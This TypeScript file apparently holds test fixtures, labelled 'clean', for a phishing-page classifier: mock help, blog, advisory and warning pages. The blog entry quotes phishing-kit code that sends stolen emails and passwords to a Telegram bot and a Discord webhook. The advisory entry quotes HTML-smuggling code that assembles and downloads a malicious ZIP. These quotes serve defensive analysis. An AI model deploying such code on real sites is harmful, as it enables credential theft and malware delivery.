import { type Entry } from '../entry.js';
import { baseCss, cookieBanner, doc, hotjar, jsonLdOrg, siteFooter, siteNav } from '../parts/d-parts.js';
import { blog } from '../parts/d-benign-articles.js';

export const entries: Entry[] = [

{
  id: 'd-ok-help-seed-phrase-warning',
  label: 'clean',
  kind: 'wallet-help-article',
  url: 'https://support.tallywallet.app/hc/en-us/articles/4410-never-share-your-recovery-phrase',
  body: doc({
    title: 'Never share your Secret Recovery Phrase – Tally Wallet Help Center',
    head: jsonLdOrg('Tally Wallet', 'https://tallywallet.app'),
    css: baseCss('#7c3aed') + `article{max-width:760px;margin:40px auto;padding:0 24px}.warn{background:#fef2f2;border:1px solid #fecaca;padding:16px;border-radius:8px}.words{display:grid;grid-template-columns:repeat(4,1fr);gap:6px;font-family:monospace;background:#f5f3ff;padding:12px;border-radius:8px}`,
    body: `${siteNav({ brand: 'Tally Wallet Help', links: ['Getting started', 'Security', 'Troubleshooting', 'Contact support'] })}
<article><h1>Never share your Secret Recovery Phrase</h1>
<div class="warn"><b>Tally Wallet support will never ask for your Secret Recovery Phrase.</b> Anyone who has your 12 words can take everything in your wallet. No website needs it to "validate", "sync", "rectify" or "restore" your wallet.</div>
<p>Your Secret Recovery Phrase (also called a seed phrase or mnemonic) is a list of 12 or 24 words that looks like this example, which is publicly known and must never be used:</p>
<div class="words"><span>1. abandon</span><span>2. abandon</span><span>3. abandon</span><span>4. abandon</span><span>5. abandon</span><span>6. abandon</span><span>7. abandon</span><span>8. abandon</span><span>9. abandon</span><span>10. abandon</span><span>11. abandon</span><span>12. about</span></div>
<h2>Common scams</h2><ul><li><b>"Wallet validation" sites</b> that claim to fix failed transactions, missing balances or airdrops if you "connect manually" by entering your phrase.</li><li><b>Fake support agents</b> on Discord or X who DM you after you post a question.</li><li><b>Fake airdrop claims</b> that ask you to sign a Permit or setApprovalForAll — these let the attacker move your tokens later.</li><li><b>Fake firmware updates</b> asking hardware-wallet users to type all 24 words into a website.</li></ul>
<h2>What to do if you entered your phrase somewhere</h2><ol><li>Create a new wallet on a device you trust.</li><li>Move all remaining funds to the new wallet immediately.</li><li>Revoke token approvals at a revoke tool you reach by typing its address yourself.</li></ol>
<p>Was this article helpful? 👍 👎</p></article>
${siteFooter({ company: 'Tally Labs Ltd' })}${cookieBanner('en')}`,
  }),
},

{
  id: 'd-ok-blog-telegram-phishkit-research',
  label: 'clean',
  kind: 'security-blog-quotes-kit',
  url: 'https://blog.sentrybyte.io/2026/09/phishing-kits-telegram-exfiltration/',
  body: blog({
    title: 'Why phishing kits love Telegram bots (and how we track them)',
    site: 'SentryByte',
    accent: '#f97316',
    author: 'Jonas Weber',
    date: '2026-09-02',
    head: hotjar(3418821),
    body: String.raw`<p>Almost 40% of the credential-phishing kits we unpacked this year send stolen data straight to a Telegram bot instead of a PHP mailer. Here is the typical client-side snippet, abbreviated:</p>
<pre><code>const TOKEN = '&lt;bot token&gt;'; const CHAT = '&lt;chat id&gt;';
const msg = 'LOG\nUser: ' + email + '\nPass: ' + pass + '\nIP: ' + ip;
fetch('https://api.telegram.org/bot' + TOKEN + '/sendMessage', {
  method: 'POST', headers: {'Content-Type': 'application/json'},
  body: JSON.stringify({ chat_id: CHAT, text: msg })
});</code></pre>
<p>Discord webhooks are the second most common channel:</p>
<pre><code>fetch('https://discord.com/api/webhooks/&lt;id&gt;/&lt;token&gt;', { method: 'POST', body: JSON.stringify({ content: user + ':' + pass }) })</code></pre>
<p>Because the token is shipped in the page, defenders can often read the bot's metadata — but please do not "hack back": report tokens to Telegram via @notoscam and to the hosting provider.</p>
<h2>Kit lures we saw most</h2><p>"Your mailbox has exceeded its storage limit", "Unusual sign-in activity", "Your parcel could not be delivered — pay £1.45", and "Verify your account within 24 hours or it will be suspended".</p>`,
  }),
},

{
  id: 'd-ok-cert-advisory-html-smuggling',
  label: 'clean',
  kind: 'advisory-quotes-smuggling',
  url: 'https://www.cert-nordlys.no/en/advisories/2026-031-html-smuggling-invoices',
  body: blog({
    title: 'Advisory 2026-031: HTML smuggling in invoice-themed emails',
    site: 'CERT Nordlys',
    accent: '#1d4ed8',
    author: 'CERT Nordlys Duty Team',
    date: '2026-08-21',
    body: String.raw`<p><b>Severity:</b> High · <b>Affected:</b> Windows users receiving HTML attachments</p><p>Attackers are sending HTML attachments named <code>Invoice_####.html</code>. When opened, the page assembles a ZIP archive in the browser and triggers a download, bypassing email gateways that scan attachments:</p>
<pre><code>var bytes = Uint8Array.from(atob(payload), c =&gt; c.charCodeAt(0));
var blob = new Blob([bytes], { type: 'application/zip' });
var a = document.createElement('a');
a.href = URL.createObjectURL(blob);
a.download = 'Invoice_0428.zip';
a.click();</code></pre>
<p>The archive contains a JScript file (<code>Invoice_0428.js</code>) which runs PowerShell to download a loader. Some variants produce an <code>.iso</code> via a <code>data:application/octet-stream;base64,</code> URL instead.</p>
<h2>Recommendations</h2><ul><li>Set the default handler for <code>.js</code>, <code>.jse</code>, <code>.vbs</code> and <code>.hta</code> to Notepad.</li><li>Block ISO/IMG auto-mount for standard users.</li><li>Enable ASR rule "Block JavaScript or VBScript from launching downloaded executable content".</li></ul>`,
  }),
},

{
  id: 'd-ok-university-it-phishing-examples',
  label: 'clean',
  kind: 'it-helpdesk-article',
  url: 'https://it.westbrook.edu/security/phishing-examples/mailbox-quota',
  body: doc({
    title: 'Phishing example: "Mailbox quota exceeded" | Westbrook University IT',
    css: baseCss('#7c2d12') + `.mail{border:1px solid #ccc;padding:16px;font-family:Arial;background:#fafafa;margin:14px 0}`,
    body: `${siteNav({ brand: 'Westbrook IT Services', links: ['Get help', 'Accounts', 'Email', 'Security', 'Software'] })}
<main class="container" style="max-width:820px;padding:30px 24px"><h1>Phishing example: "Mailbox quota exceeded"</h1><p>Reported by several staff on November 24. <b>Do not click the link.</b></p>
<div class="mail"><b>From:</b> Westbrook Webmail Admin &lt;noreply@westbrook-edu-mail.com&gt;<br><b>Subject:</b> Your mailbox has exceeded its storage limit<br><br>Dear user,<br>Your mailbox has exceeded its storage limit (1.99 GB / 2 GB). You may not be able to send or receive new messages until you re-validate your mailbox. Click below to upgrade your quota:<br><br>[ VALIDATE MAILBOX ]<br><br>Failure to validate within 24 hours will result in account deactivation.<br>Westbrook IT Help Desk</div>
<h2>How to tell</h2><ul><li>The sender domain is not westbrook.edu.</li><li>Westbrook mailboxes have 100 GB quota and we never ask you to "validate".</li><li>Our sign-in page is always <b>https://login.westbrook.edu</b>.</li></ul><p>Forward suspicious mail as an attachment to <a href="mailto:phish@westbrook.edu">phish@westbrook.edu</a>, or call the Service Desk at (555) 010-4357.</p></main>
${siteFooter({ company: 'Westbrook University' })}`,
  }),
},

{
  id: 'd-ok-blog-de-phishing-warnung',
  label: 'clean',
  kind: 'consumer-advice',
  url: 'https://www.verbraucherzentrale-musterland.de/phishing-radar/sparkasse-pushtan-2026',
  body: doc({
    title: 'Phishing-Radar: Sparkasse – „pushTAN-Registrierung“ | Verbraucherzentrale',
    lang: 'de',
    css: baseCss('#0069b4') + `.q{border-left:4px solid #e30613;padding:10px 16px;background:#fff5f5}`,
    body: `${siteNav({ brand: 'Verbraucherzentrale', links: ['Geld & Versicherungen', 'Digitale Welt', 'Phishing-Radar', 'Beratung'] })}
<main class="container" style="max-width:820px;padding:30px 24px"><h1>Sparkasse: Phishing mit „pushTAN-Registrierung“</h1><p>Stand: 25.11.2026</p><p>Aktuell erhalten viele Verbraucher:innen E-Mails, die angeblich von der Sparkasse stammen:</p>
<div class="q">„Aufgrund der neuen EU-Zahlungsdiensterichtlinie muss Ihr pushTAN-Verfahren bis zum 14.12. neu registriert werden. Andernfalls wird Ihr Online-Banking-Zugang vorübergehend gesperrt. Jetzt registrieren“</div>
<p><b>Unsere Einschätzung:</b> Es handelt sich um Phishing. Der Link führt auf eine gefälschte Seite, die Anmeldename, PIN und Handynummer abfragt. Verschieben Sie die E-Mail unbeantwortet in den Spam-Ordner.</p><p>Falls Sie Daten eingegeben haben: Sperren Sie Ihren Zugang über den Sperr-Notruf <b>116 116</b>.</p></main>
${siteFooter({ company: 'Verbraucherzentrale Musterland e.V.' })}${cookieBanner('de')}`,
  }),
},

];
